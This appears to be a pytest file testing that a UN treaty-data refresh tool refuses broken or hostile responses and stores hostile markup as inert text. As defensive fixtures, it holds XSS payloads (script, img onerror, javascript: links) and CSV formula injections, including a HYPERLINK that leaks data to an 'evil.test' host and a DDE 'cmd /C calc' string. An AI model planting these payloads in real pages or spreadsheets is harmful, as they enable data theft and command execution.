"""A hostile or broken UNTC, end to end through ``python -m loaders refresh``.

Every fault ends in exit code 1, a message that names the URL and what went wrong, and a data
folder byte-for-byte as it was. Hostile content that still makes a valid page is stored as inert
plain text, and nothing formula-like reaches the CSV export un-neutralised.

The current snapshot is made older than the fixtures first (as in test_refresh.py), so that a
refusal is the fault's doing and not the "older than the snapshot" check.
"""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys
import time
from pathlib import Path

import pandas as pd
import pytest

from cli.main import main
from loaders.paths import PROJECT_ROOT
from loaders.store.snapshot import read_current
from tests.support.data import QuickClient
from tests.support.refresh_helpers import ARGENTINA_ROW, edited, tree
from tests.support.untc_server import FIXTURES, UntcMirror

TIP = "XVIII-12-a"
FEED = "xviii-12-a.en.xml"
PAGE = "ViewDetails_xviii-12-a.html"
ELSEWHERE = "http://127.0.0.2:9/evil.xml"


def refused(data: Path, mirror: UntcMirror, capsys: pytest.CaptureFixture[str]) -> str:
    """Run the refresh of TIP; assert exit 1, a readable message and no change; return it."""
    before = tree(data)
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    message = err[err.index("refresh failed, snapshot unchanged: ") :]
    headline, *tried = message.rstrip("\n").split("\n")
    assert headline.startswith("refresh failed, snapshot unchanged: TIP (XVIII-12-a): ")
    for line in tried:  # one line per URL tried, each naming it
        assert line.startswith(f"  - {mirror.base_url}/") and len(line) < 400, line
    assert tree(data) == before
    return message


def served(mirror: UntcMirror, **route: object) -> None:
    """The same answer for the feed and the status page (else the client falls back)."""
    for path in (mirror.xml_path(TIP), mirror.page_path(TIP)):
        mirror.route(path, **route)


# ---------------------------------------------------------------------------------------------
# Faults: exit 1, the URL and the reason, nothing written


def test_slow_answers_time_out(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    served(mirror, delay=10)
    started = time.monotonic()
    message = refused(older, mirror, capsys)
    assert time.monotonic() - started < 8  # 2 URLs x 2 attempts x 0.5 s, not 4 x 10 s
    assert message.count("ReadTimeout: no answer within the read timeout") == 2
    assert "gave up after 2 attempts" in message
    assert quick.sleeps == [0.5, 0.5]


def test_an_answer_trickled_byte_by_byte_is_cut_off(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """Each byte comes within the read timeout, so only a deadline on the whole body stops it."""
    quick.options |= {"max_seconds": 0.4, "retries": 0}
    served(mirror, file=FEED, trickle=0.02)  # 27 kB at 50 bytes/s: 9 minutes
    started = time.monotonic()
    message = refused(older, mirror, capsys)
    assert time.monotonic() - started < 8  # 2 x 0.4 s, with room for a busy machine
    assert message.count("the answer took over 0.4 s to arrive; stopped reading") == 2


def test_server_errors_on_every_url(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    mirror.route(mirror.xml_path(TIP), status=500)
    mirror.route(mirror.page_path(TIP), status=503)
    message = refused(older, mirror, capsys)
    assert f"{mirror.url(mirror.xml_path(TIP))}: HTTP 500 (gave up after 2 attempts)" in message
    assert f"{mirror.url(mirror.page_path(TIP))}: HTTP 503 (gave up after 2 attempts)" in message
    assert mirror.paths() == [mirror.xml_path(TIP)] * 2 + [mirror.page_path(TIP)] * 2


def test_body_shorter_than_its_content_length(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    for path, name in ((mirror.xml_path(TIP), FEED), (mirror.page_path(TIP), PAGE)):
        whole = (FIXTURES / name).read_bytes()
        mirror.route(
            path,
            body=whole[: len(whole) // 2],
            headers={"Content-Length": str(len(whole))},
            content_length=False,
        )
    message = refused(older, mirror, capsys)
    assert message.count("interrupted while reading") == 2 and "IncompleteRead" in message


def test_body_cut_short_without_a_content_length(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """No length to check against: the documents themselves must show they are incomplete.

    The page is cut inside the declarations, after the grid: libxml2 would close the open
    elements silently, and a refresh used to succeed with a declaration lost.
    """
    feed, page = (FIXTURES / FEED).read_bytes(), (FIXTURES / PAGE).read_bytes()
    cut_feed = feed[: feed.index(b"<Entry>Argentina</Entry>") + 10]  # inside an element
    cut_page = page[: page.index(b"&lt;script&gt;alert(1)")]  # Bahrain's second paragraph
    mirror.route(mirror.xml_path(TIP), body=cut_feed, content_length=False)
    mirror.route(mirror.page_path(TIP), body=cut_page, content_length=False)
    message = refused(older, mirror, capsys)
    assert "not well-formed XML: Premature end of data" in message
    assert f"{mirror.url(mirror.page_path(TIP))}: the page ends before </html> (cut short?)" in (
        message
    )


def test_huge_body_is_refused_at_the_default_cap(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """The CLI's real cap (20 MB): one body says its length up front, one does not."""
    huge = b"<Treaty>" + b" " * 20_000_000
    mirror.route(mirror.xml_path(TIP), body=huge, content_length=False)
    mirror.route(mirror.page_path(TIP), body=huge)
    message = refused(older, mirror, capsys)
    assert "exceeds the cap of 20000000 bytes; stopped reading" in message  # streamed
    assert f"response of {len(huge)} bytes exceeds the cap of 20000000 bytes" in message


def test_redirect_to_another_host_is_not_followed(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    served(mirror, redirect=ELSEWHERE)
    message = refused(older, mirror, capsys)
    assert message.count(f"to another host or scheme, {ELSEWHERE}; not followed") == 2
    assert len(mirror.paths()) == 2  # nothing was asked of the other host


def test_redirect_to_a_location_that_is_not_a_url(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """requests parses the Location even when not following it: a bare ValueError before."""
    served(mirror, redirect="http://[::1")
    message = refused(older, mirror, capsys)
    assert message.count("unusable URL or redirect (ValueError: Invalid IPv6 URL)") == 2


# ---------------------------------------------------------------------------------------------
# Wrong or missing encodings

CURLY = ("Côte d'Ivoire", "Côte d’Ivoire")  # ’ is 0x92 in Windows-1252, not in ISO-8859-1
META = '<meta http-equiv="Content-Type" content="text/html; charset=utf-8" />'
ECUADOR_TEXT = "Declaración: «la República del Ecuador» — “no se considera obligada”."


def page_with_ecuador(charset: str | None) -> str:
    """The status page with a declaration of Ecuador in accented text, and the given charset."""
    text = (FIXTURES / PAGE).read_text(encoding="utf-8").replace("&#x27;", "'")
    text = text.replace(*CURLY)
    assert META in text and CURLY[1] in text
    text = text.replace(
        '<p class="boldText"><b>Algeria</b></p>',
        f'<p class="boldText"><b>Ecuador</b></p>\n<p>{ECUADOR_TEXT}</p>\n'
        '<p class="boldText"><b>Algeria</b></p>',
    )
    return text.replace(META, f'<meta charset="{charset}" />' if charset else "")


def test_wrong_or_missing_encodings_are_refused(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """What is decoded, and what is refused rather than guessed.

    XML: the encoding the document declares (UTF-8 when it declares none) is authoritative, as the
    XML specification says; bytes that do not fit it are a well-formedness error. Here the feed
    declares UTF-8 but is Windows-1252.

    HTML: a byte-order mark; else UTF-8 when the bytes are valid UTF-8 (unambiguous in practice);
    else the <meta> charset when the bytes fit it. A page that is not UTF-8 and declares nothing
    is refused: Windows-1252 and ISO-8859-1 and others all "decode" it, differently, and a wrong
    guess stores mojibake. The HTTP header is not consulted, so the raw copy kept in the
    snapshot reads the same way again.
    """
    feed = (FIXTURES / FEED).read_text(encoding="utf-8").replace(*CURLY)
    assert "encoding='utf-8'" in feed
    mirror.route(mirror.xml_path(TIP), body=feed.encode("cp1252"))
    mirror.route(mirror.page_path(TIP), body=page_with_ecuador(None).encode("cp1252"))
    message = refused(older, mirror, capsys)
    assert "not well-formed XML: Invalid bytes in character encoding" in message
    assert "the page is not UTF-8 (byte 0xf4 at offset" in message
    assert "and declares no charset; not guessing one" in message


def test_page_declaring_utf8_with_other_bytes_is_refused(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    mirror.route(mirror.xml_path(TIP), status=404)
    mirror.route(mirror.page_path(TIP), body=page_with_ecuador("utf-8").encode("cp1252"))
    message = refused(older, mirror, capsys)
    assert "the page's bytes are not in the charset it declares, 'utf-8'" in message


def test_feed_declaring_latin1_with_windows_1252_bytes_is_refused(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """Well-formed, but ’ read as ISO-8859-1 is the control character U+0092: mojibake."""
    feed = (FIXTURES / FEED).read_text(encoding="utf-8").replace(*CURLY)
    feed = feed.replace("encoding='utf-8'", "encoding='iso-8859-1'")
    mirror.route(mirror.xml_path(TIP), body=feed.encode("cp1252"))
    mirror.route(mirror.page_path(TIP), status=404)
    message = refused(older, mirror, capsys)
    assert "control character U+0092 in 'Côte d\\x92Ivoire'" in message
    assert "the bytes do not match the document's declared encoding" in message


@pytest.mark.parametrize("charset", ["windows-1252", "iso-8859-1"])
def test_page_in_its_declared_single_byte_charset_is_decoded(
    older: Path, mirror: UntcMirror, quick: QuickClient, charset: str
) -> None:
    """Unambiguous, so read correctly; "iso-8859-1" is read as Windows-1252, as browsers do."""
    mirror.route(mirror.xml_path(TIP), status=404)
    mirror.route(mirror.page_path(TIP), body=page_with_ecuador(charset).encode("cp1252"))
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 0
    declarations = read_current(older).declarations
    assert declarations.set_index("iso3").loc["ECU", "text"] == ECUADOR_TEXT


# ---------------------------------------------------------------------------------------------
# Hostile content in a valid feed or page: stored as inert text

ARGENTINA = "<Entry>Argentina</Entry>"


def feed_with(*replacements: tuple[str, str]) -> bytes:
    return edited(FEED, *replacements)


def stored_text(data: Path) -> str:
    """Every normalised file of the current snapshot (raw/ keeps the bytes as served)."""
    folder = read_current(data).path
    return "".join(
        (folder / name).read_text(encoding="utf-8") for name in ("status.csv", "declarations.csv")
    )


def test_markup_in_the_feed_is_stored_as_plain_text(
    older: Path, mirror: UntcMirror, quick: QuickClient
) -> None:
    """Element markup is read for its text (<script> dropped, never run); escaped markup and
    CDATA are text and are kept character for character."""
    body = feed_with(
        (
            ARGENTINA,
            "<Entry><b>Argentina</b><script>alert('name')</script>"
            "<sup>7<script>alert('note')</script></sup></Entry>",
        ),
        (
            "<Declarations>",
            "<Declarations><Declaration><Participant>Ecuador<script>alert(0)</script>"
            "</Participant><Text>Declaration: <script>alert(1)</script><b>bold</b> "
            "&lt;img src=x onerror=alert(2)&gt; and <![CDATA[<script>alert(3)</script>]]>"
            "</Text><Text>[link](javascript:alert(4)) ![](http://tracker.test/p.png)</Text>"
            "</Declaration>",
        ),
    )
    mirror.route(mirror.xml_path(TIP), body=body)
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 0
    snapshot = read_current(older)
    argentina = snapshot.status.set_index(["iso3", "mtdsg_no"]).loc[("ARG", TIP)]
    assert argentina["participant"] == "Argentina" and argentina["note"] == ""
    ecuador = snapshot.declarations.set_index("iso3").loc["ECU"]
    assert ecuador["participant"] == "Ecuador"
    assert ecuador["text"] == (
        "Declaration: bold <img src=x onerror=alert(2)> and <script>alert(3)</script>\n\n"
        "[link](javascript:alert(4)) ![](http://tracker.test/p.png)"
    )
    assert "alert('name')" not in stored_text(older) and "alert('note')" not in stored_text(older)
    assert (snapshot.path / "raw" / "TIP.xml").read_bytes() == body  # the evidence, as served


def test_markup_in_the_page_is_stored_as_plain_text(
    older: Path, mirror: UntcMirror, quick: QuickClient
) -> None:
    page = (FIXTURES / PAGE).read_text(encoding="utf-8")
    for old, new in (
        (
            "<td>Argentina</td>",
            "<td>Argentina<script>alert('name')</script><sup>7<img src=x onerror=alert(0)>"
            "</sup></td>",
        ),
        (
            '<p class="boldText"><b>Algeria</b></p>',
            '<p class="boldText"><b>Ecuador<img src=x onerror=alert(1)></b></p>\n'
            "<p>Declaration: &lt;script&gt;alert(2)&lt;/script&gt;<script>alert(3)</script>"
            ' and <a href="javascript:alert(4)">a link</a>.</p>\n'
            '<p class="boldText"><b>Algeria</b></p>',
        ),
    ):
        assert old in page
        page = page.replace(old, new, 1)
    mirror.route(mirror.xml_path(TIP), status=404)
    mirror.route(mirror.page_path(TIP), body=page.encode("utf-8"))
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 0
    snapshot = read_current(older)
    argentina = snapshot.status.set_index(["iso3", "mtdsg_no"]).loc[("ARG", TIP)]
    assert argentina["participant"] == "Argentina"
    ecuador = snapshot.declarations.set_index("iso3").loc["ECU"]
    assert ecuador["text"] == "Declaration: <script>alert(2)</script> and a link."
    assert "alert(3)" not in stored_text(older) and "alert('name')" not in stored_text(older)


def test_escaped_markup_around_a_state_name_is_not_taken_for_the_state(
    older: Path, mirror: UntcMirror, quick: QuickClient, capsys: pytest.CaptureFixture[str]
) -> None:
    """ "<b>Argentina</b>" as text is no name UNTC uses: the refresh stops and shows it as text."""
    mirror.route(
        mirror.xml_path(TIP),
        body=feed_with((ARGENTINA, "<Entry>&lt;b&gt;Argentina&lt;/b&gt;</Entry>")),
    )
    before = tree(older)
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 1
    err = capsys.readouterr().err
    assert "name no state, country or known organisation: '<b>Argentina</b>'" in err
    assert "(closest known names: ['Argentina'" in err
    assert tree(older) == before


@pytest.mark.parametrize(
    ("old", "new", "reason"),
    [
        (
            "<Entry>19 Nov 2002</Entry>",
            "<Entry>19 Nov 2099</Entry>",
            "consent dated 2099-11-19, in the future",
        ),
        ("<Entry>12 Dec 2000</Entry>", "<Entry>12 Dec 2003</Entry>", "signature after consent"),
        (
            "<Entry>12 Dec 2000</Entry>",
            "<Entry>12 Dec 0001</Entry>",
            "signature dated 0001-12-12, "
            "before the instrument was opened for signature (2000-12-12)",
        ),
    ],
)
def test_impossible_dates_for_a_state_are_refused(
    older: Path,
    mirror: UntcMirror,
    quick: QuickClient,
    capsys: pytest.CaptureFixture[str],
    old: str,
    new: str,
    reason: str,
) -> None:
    """Parsed fine, but no valid record: a pydantic traceback before, now a message."""
    mirror.route(
        mirror.xml_path(TIP), body=feed_with((ARGENTINA_ROW, ARGENTINA_ROW.replace(old, new)))
    )
    before = tree(older)
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 1
    err = capsys.readouterr().err
    assert "Traceback" not in err
    assert "refresh failed, snapshot unchanged: TIP (XVIII-12-a) at " in err
    assert f"impossible dates: 'Argentina': {reason}" in err
    assert tree(older) == before


FORMULAS = {
    "ECU": '=HYPERLINK("http://evil.test/?leak="&A1,"click")',
    "MEX": "+1+cmd|' /C calc'!A0",
    "PER": "-2-1",
    "CHL": "@SUM(A1:A9)",
}


def test_formula_like_text_never_reaches_the_export_as_a_formula(
    older: Path, mirror: UntcMirror, quick: QuickClient
) -> None:
    """The snapshot keeps upstream's text exactly; the export never carries it as a formula.

    Today no export column carries UNTC's free text (participant names and declarations stay
    in the snapshot; the export's names come from data/states.csv), so this guards the day one
    does: every cell of ``python -m loaders export`` is checked, whatever its column.
    """
    names = {"ECU": "Ecuador", "MEX": "Mexico", "PER": "Peru", "CHL": "Chile"}
    items = "".join(
        f"<Declaration><Participant>{names[iso3]}</Participant><Text>{text.replace('&', '&amp;')}"
        "</Text></Declaration>"
        for iso3, text in FORMULAS.items()
    )
    body = feed_with(
        (ARGENTINA, "<Entry>=Argentina</Entry>"),  # matched to ARG: punctuation is ignored
        ("<Declarations>", f"<Declarations>{items}"),
    )
    mirror.route(mirror.xml_path(TIP), body=body)
    assert main(["refresh", "--base-url", mirror.base_url, "--instrument", "TIP"]) == 0
    snapshot = read_current(older)
    assert snapshot.declarations.set_index("iso3")["text"].to_dict() == FORMULAS
    # The row keeps the known spelling it matched, never upstream's raw text (raw/ keeps that).
    assert snapshot.status.set_index(["iso3", "mtdsg_no"]).loc[("ARG", TIP), "participant"] == (
        "Argentina"
    )
    assert b"<Entry>=Argentina</Entry>" in (snapshot.path / "raw" / "TIP.xml").read_bytes()

    result = subprocess.run(
        [sys.executable, "-m", "loaders", "export", "--instrument", "TIP"],
        cwd=PROJECT_ROOT,
        env=os.environ | {"RATIFY_DATA_DIR": str(older)},
        capture_output=True,
        check=True,
    )
    rows = list(csv.reader(io.StringIO(result.stdout.decode("utf-8"), newline="")))
    assert len(rows) == 36
    cells = [cell for row in rows for cell in row]
    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
    hostile = {*FORMULAS.values(), "=Argentina"}
    assert not [c for c in cells if c.removeprefix("'") in hostile and not c.startswith("'")]
    export = pd.DataFrame(rows[1:], columns=rows[0]).set_index("iso3")
    assert export.loc["ARG", "state"] == "Argentina"
    assert export.loc["ARG", "signature_date"] == "2000-12-12"  # the row itself was refreshed
